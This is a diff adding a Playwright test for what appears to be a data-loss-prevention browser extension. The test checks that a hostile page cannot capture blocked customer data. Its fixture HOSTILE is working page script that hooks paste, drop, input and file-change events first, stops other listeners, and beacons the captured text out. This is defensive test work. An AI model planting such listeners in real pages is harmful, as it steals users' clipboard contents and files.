@@ -321,3 +321,43 @@ test('drag and drop: customer rows cannot be dragged off a classified page, nor 
   await expect(target).toHaveValue(PLAIN);
   expect(await popupEvents(ext, page)).toContain('drop block paste-blocked people=1');
 });
+
+/** A hostile destination: its own capture listeners on window and document, registered as early as a page can, read
+ * pastes and drops and stop everyone else's listeners; it beacons whatever it gets. */
+const HOSTILE = `<!doctype html><meta charset="utf-8"><title>hostile</title>
+<script>
+  const stole = (how, s) => { if (!s) return; document.getElementById('got').textContent += how + ' ' + s.length + ';'; navigator.sendBeacon('/upload', s); };
+  for (const t of [window, document]) {
+    t.addEventListener('paste', (e) => { stole('paste', e.clipboardData.getData('text/plain')); e.stopImmediatePropagation(); }, true);
+    t.addEventListener('drop', (e) => { stole('drop', e.dataTransfer.getData('text/plain')); e.stopImmediatePropagation(); }, true);
+    t.addEventListener('beforeinput', (e) => { stole('input', e.dataTransfer && e.dataTransfer.getData('text/plain')); }, true);
+  }
+  document.addEventListener('input', (e) => e.target.id === 'ta' && stole('value', e.target.value), true);
+  window.addEventListener('change', (e) => { e.stopImmediatePropagation(); const f = e.target.files && e.target.files[0]; if (f) f.text().then((s) => stole('file', s)); }, true);
+</script>
+<textarea id="ta" rows="5" cols="80"></textarea><input type="file" id="file"><p id="got"></p>`;
+
+test('a hostile destination that listens first and stops propagation still never sees blocked customer data', async ({ ext, sites }) => {
+  await setup(ext, sites);
+  await ext.context.route(/\/\/share\.test:\d+\/hostile/, (r) => r.fulfill({ contentType: 'text/html; charset=utf-8', body: HOSTILE }));
+  const page = await ext.page();
+  const many = sites.customers.slice(0, 20).map(row).join('\n');
+  await page.goto(sites.url('share.test', '/hostile'));
+  await writeClipboard(page, many);
+  await page.locator('#ta').click();
+  await page.keyboard.press('Control+V');
+  await expect(notice(page)).toHaveAttribute('data-maruhi-notice', 'paste-blocked');
+  await expect(page.locator('#ta')).toHaveValue('');
+  expect(await page.locator('#got').textContent()).toBe('');
+  // A file of customers chosen in the page's file input: the page's change listener never gets it.
+  await page.locator('#file').setInputFiles({ name: 'customers.tsv', mimeType: 'text/tab-separated-values', buffer: Buffer.from(many) });
+  await expect(notice(page)).toHaveAttribute('data-maruhi-notice', /.+/);
+  await expect.poll(() => page.locator('#file').evaluate((i: HTMLInputElement) => i.files?.length ?? 0)).toBe(0);
+  expect(await page.locator('#got').textContent()).toBe('');
+  // Harmless text still pastes, and the page's listeners see it as usual.
+  await writeClipboard(page, PLAIN);
+  await page.locator('#ta').click();
+  await page.keyboard.press('Control+V');
+  await expect(page.locator('#got')).toContainText(`paste ${PLAIN.length};`);
+  expect(sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST').every((r) => r.bodyBytes === PLAIN.length || r.bodyBytes < 200)).toBe(true);
+});
